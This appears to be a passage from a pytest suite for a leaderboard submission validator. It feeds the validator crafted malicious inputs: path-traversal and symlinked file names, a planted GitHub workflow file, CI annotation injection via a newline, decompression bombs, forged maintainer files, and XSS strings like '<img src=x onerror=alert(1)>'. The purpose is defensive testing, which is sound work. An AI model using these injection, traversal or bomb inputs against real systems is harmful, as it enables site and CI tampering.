        key = (bundle.digest, repr((bundle.identity, bundle.record.certificate)))
        if key not in known:
            known[key] = recomputed(bundle, joined, index)
        return known[key]

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(checked, "recomputed", once)
        patch.setattr("weval.leaderboard.check.gold_index", cache(gold_index))
        yield


def test_what_is_forged_here_is_accepted_before(root: Path, length: Entry) -> None:
    assert problems_of(length, whole=True) == []
    of_a_plugin(length, seed=1)
    shutil.rmtree(length.folder / "swapped")
    assert problems_of(length) == []


@named(CARDS)
def test_cards(case: Hostile, plain: Entry) -> None:
    refused(case, plain)


@named(RECORDS)
def test_records(case: Hostile, plain: Entry) -> None:
    refused(case, plain)


@named(RESULTS)
def test_results(case: Hostile, plain: Entry) -> None:
    refused(case, plain)


@named(SCORES)
def test_scores(case: Hostile, plain: Entry) -> None:
    refused(case, plain)


@named(COPIES)
def test_copies(case: Hostile, plain: Entry) -> None:
    refused(case, plain, whole=True)


@named(HISTORIES)
def test_histories(case: Hostile, plain: Entry) -> None:
    refused(case, plain)


@named(FILES)
def test_files(case: Hostile, plain: Entry) -> None:
    refused(case, plain)


@named(PROBED)
def test_probes(case: Hostile, length: Entry) -> None:
    refused(case, length)


# --- what lies beside submissions ---------------------------------------------------------------------------------


def beside(name: str, content: bytes = b"x") -> Forge:
    """One more file in `results`."""
    return lambda entry: lying(f"../{name}", content)(entry)


def away(name: str) -> Forge:
    return lambda entry: shutil.move(entry.root / name, entry.root.parent / "away")


def moved(old: str, new: str) -> Forge:
    return lambda entry: (entry.root / old).rename(entry.root / new)


ROOTS = [
    Hostile("a model that is a link", linked(""), "length: does not belong in results/"),
    Hostile("a model in capitals", moved("length", "Length"), "Length: is no name for a model's folder"),
    Hostile("a model in other letters", moved("length", "l\u0435ngth"), "is no name for a model's folder"),
    Hostile("a model whose name is no text", lying(b"../\xff\xfe/weval-mini/run.json"), "is no name for a model's"),
    Hostile("a model over two lines", lying("../a\n::error::b/run.json"), "a\\n::error::b: is no name"),
    Hostile("a model of dots", lying("../.../run.json"), "...: is no name for a model's folder"),
    Hostile("a model of 100 letters", moved("length", "h" * 100), "is no name for a model's folder"),
    Hostile("a model under another name", moved("length", "gpt-9"), "the folder of 'length' is called length"),
    Hostile("a model without a run", lying("../evil/payload.html"), "holds no run of a task"),
    Hostile("a model with nothing but its card", lying("../evil/card.json", b"{}"), "holds no run of a task"),
    Hostile("a model whose only task is a link", linked("weval-mini"), "weval-mini: does not belong in a model's"),
    Hostile("a model without a card", lambda entry: (entry.model_folder / CARD).unlink(), "card.json: No such file"),
    Hostile("a task that does not exist", moved("length/weval-mini", "length/wevil"), "is no task that"),
    Hostile("a file of their own", beside("evil.html"), "evil.html: does not belong in results/"),
    Hostile("a hidden folder", beside(".github/workflows/x.yml"), ".github: is no name for a model's folder"),
    Hostile("a card of everything", beside(CARD), "card.json: does not belong in results/"),
    Hostile("a run of everything", beside(RUN), "run.json: does not belong in results/"),
    Hostile("changes of everything", beside(CHANGES), "changes.jsonl: does not belong in results/"),
    Hostile("a run that is a model", lying("../evil/run.json"), "holds no run of a task"),
    Hostile("repetitions that are a pipe", lambda entry: os.mkfifo(entry.root / RERUNS), "reruns.jsonl: does not"),
]

FORGED_RERUN = b'{"model": "length", "task": "weval-mini", "confirmed": true}\n'

PUBLISHED = [
    Hostile("a repetition that maintainers did not make", beside(RERUNS, FORGED_RERUN), "belongs to maintainers"),
    Hostile("a paper of their own", beside("paper/evil.yaml"), "paper/evil.yaml: belongs to maintainers"),
    Hostile("a page among the papers", beside("paper/more/x.html"), "paper/more: belongs to maintainers"),
    Hostile("a paper that is another one", beside("paper/ours.yaml", b"tables: [1]\n"), "paper/ours.yaml: belongs"),
    Hostile("a paper that is gone", lambda entry: (entry.root / "paper" / "ours.yaml").unlink(), "belongs to"),
    Hostile("another one's model that is gone", away("length"), "length/weval-mini: is published, and gone here"),
    Hostile("another one's task that is gone", away("length/weval-mini"), "is published, and gone here"),
    Hostile("changes that are rewritten", change(why="always so"), "does not begin with what is published"),
    Hostile("changes that begin anew", text(CHANGES, lambda t: t.splitlines(keepends=True)[-1]), "may only be added"),
    Hostile("the answers of a published one", lambda entry: (copied(entry), away("length")(entry)), "those of length"),
    Hostile("the name of a published one", lambda entry: (twin("Leng.th")(entry), away("length")(entry)), "called so"),
]


@named(ROOTS)
def test_roots(case: Hostile, plain: Entry) -> None:
    refused(case, plain, whole=True)


@named(PUBLISHED)
def test_against_what_is_published(case: Hostile, plain: Entry) -> None:
    beside("paper/ours.yaml", b"tables: []\n")(plain)
    history({"after": LOW})(plain)
    change_last(plain, before=LOW)
    published = Path(shutil.copytree(plain.root, plain.root.parent / "published"))
    assert [*problems_against(plain.root, published)] == []
    case.forge(plain)
    problems = [*problems_against(plain.root, published)]
    assert any(case.reason in problem for problem in problems), problems


def problems_against(root: Path, published: Path) -> Iterator[str]:
    for verdict in check([root], against=published):
        yield from problems_in(verdict)


@pytest.mark.parametrize("depth", ["model", "task"])
def test_a_folder_that_is_asked_for_by_itself_is_not_followed_either(plain: Entry, depth: str) -> None:
    """CI may check only what a pull request touches, and who opens it chooses what that is."""
    path = plain.model_folder if depth == "model" else plain.folder
    elsewhere = path.rename(plain.root.parent / "elsewhere")
    path.symlink_to(elsewhere)
    found = [problem for verdict in check([path]) for problem in problems_in(verdict)]
    assert "length/weval-mini: is a link to another folder; a submission is made of files" in found


@pytest.mark.parametrize("gone", [(CARD, CHANGES), (CARD,), ("weval-mini",), (CARD, "weval-mini/run.json")])
def test_a_model_by_itself_is_never_passed_over(plain: Entry, gone: tuple[str, ...]) -> None:
    for name in gone:
        path = plain.model_folder / name
        shutil.rmtree(path) if path.is_dir() else path.unlink()
    assert [problem for verdict in check([plain.model_folder]) for problem in problems_in(verdict)]


# --- what would break a computer rather than a leaderboard ---------------------------------------------------------


@pytest.mark.parametrize("content", [bomb(10_000), gzip.compress(b"\n" * 10**6), gzip.compress(b"1" * 2 * 10**7)])
def test_a_bomb_takes_neither_time_nor_memory(plain: Entry, content: bytes) -> None:
    problems_of(plain)  # the task is read
    (plain.folder / SCORES_GZ).write_bytes(content)
    with cpu_within(5):
        tracemalloc.start()
        try:
            (problem,) = problems_of(plain)
            _, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
    assert "unpacks to more than 600,000 bytes" in problem
    assert peak < 20 * 2**20


@pytest.mark.parametrize(
    "value",
    [
        lambda at: (-1.0) ** at * 1e150,
        lambda at: 5e-324 * (at % 3),
        lambda at: [1e150, -1e150, 5e-324, -0.0, 1.0][at * 7 % 5],
        lambda at: 1.0 + at * 2.0**-52,
        lambda at: 0.0,
    ],
)
def test_extreme_scores_are_scores(plain: Entry, value: Callable[[int], float]) -> None:
    """Warnings are errors here: nothing overflows on the way."""
    of_a_plugin(plain, seed=1)
    rows = rows_of(plain)
    put_rows(plain, [row.model_copy(update={"values": (value(at),)}) for at, row in enumerate(rows)])
    assert problems_of(plain) == []


@pytest.mark.parametrize("seed", range(60))
def test_no_broken_file_ends_in_a_traceback(plain: Entry, seed: int) -> None:
    """Bytes changed, cut out, doubled and cut off at random, in each file of a submission."""
    chance = random.Random(seed)
    path = chance.choice([*filter(Path.is_file, sorted(plain.model_folder.rglob("*")))])
    content = bytearray(path.read_bytes())
    if path.name == SCORES_GZ and chance.random() < 0.8:
        content = bytearray(gzip.decompress(content))
    for _ in range(chance.randint(1, 4)):
        at = chance.randrange(len(content))
        piece = chance.choice([b"", b"\0", b"\xff", b'"', b"{", b"}", b"1e999", b"null", b"9" * 400, b"\\ud800", b"-"])
        content[at : at + chance.choice([0, 1, len(piece), 40])] = piece
    is_scores = path.name == SCORES_GZ and content[:2] != b"\x1f\x8b"
    path.write_bytes(gzip.compress(bytes(content), mtime=0) if is_scores else bytes(content))
    problems_of(plain)


# --- what is legal is shown, harmlessly -----------------------------------------------------------------------------


def test_nasty_texts_that_are_legal_are_accepted(tmp_path: Path) -> None:
    made = harmless_but_nasty(tmp_path / "results")
    verdicts = {verdict.entry: verdict for verdict in check([tmp_path / "results"])}
    assert set(verdicts) == set(made)
    for verdict in verdicts.values():
        assert [*problems_in(verdict)] == []
    names = [read_card(entry.model_folder).name for entry in made]
    assert "<img src=x onerror=alert(1)>" in names and '"><script>alert(1)</script>' in names
    assert {len(name) for name in names} >= {80}
    assert any("</script><!--" in (entry.folder / RUN).read_text(encoding="utf-8") for entry in made)


def test_there_are_enough_of_them() -> None:
    tables = (CARDS, RECORDS, RESULTS, SCORES, COPIES, HISTORIES, FILES, PROBED, ROOTS, PUBLISHED)
    assert sum(map(len, tables)) > 200
    for table in tables:
        assert len({case.name for case in table}) == len(table)


# --- doubts: what is not refused, and a maintainer should look at ---------------------------------------------------


def doubts_of(entry: Entry) -> list[str]:
    (verdict,) = check([entry.folder])
    assert [*problems_in(verdict)] == []
    return verdict.doubts


def test_gold_with_one_fault_is_doubted(plain: Entry) -> None:
    of_a_plugin(plain, seed=1)
    rows = answered(plain, counted_gold)
    put_rows(plain, [rows[0].model_copy(update={"values": (2.5,)}), *rows[1:]])
    assert any("almost that of gold itself" in doubt for doubt in doubts_of(plain))


def test_questions_that_were_chosen_are_doubted(plain: Entry) -> None:
    """Only what is easy is answered, the rest is called not applicable: nothing of it is missing."""
    as_unit(plain, "requirement", lambda row: (float(len(row.item + row.candidates[0]) % 3),))
    easy = {row.item for row in rows_of(plain)[:400]}
    put_rows(plain, [row if row.item in easy else missing(row, "not_applicable", "hard") for row in rows_of(plain)])
    assert any("it chose what to answer: 73% of the questions, and 44 items" in doubt for doubt in doubts_of(plain))


def test_a_certificate_with_which_any_repetition_agrees_is_doubted(plain: Entry) -> None:
    of_a_plugin(plain, seed=1)
    drift = {"largest": 1e9, "flipped": 0, "n_pairs": 1}
    certificate = {"n_texts": 1, "easy": None, "drift": {"batched": drift}, "computed": {}, "remarks": []}
    put_run(plain, certificate=certificate)
    assert any("any re-run would do" in doubt for doubt in doubts_of(plain))
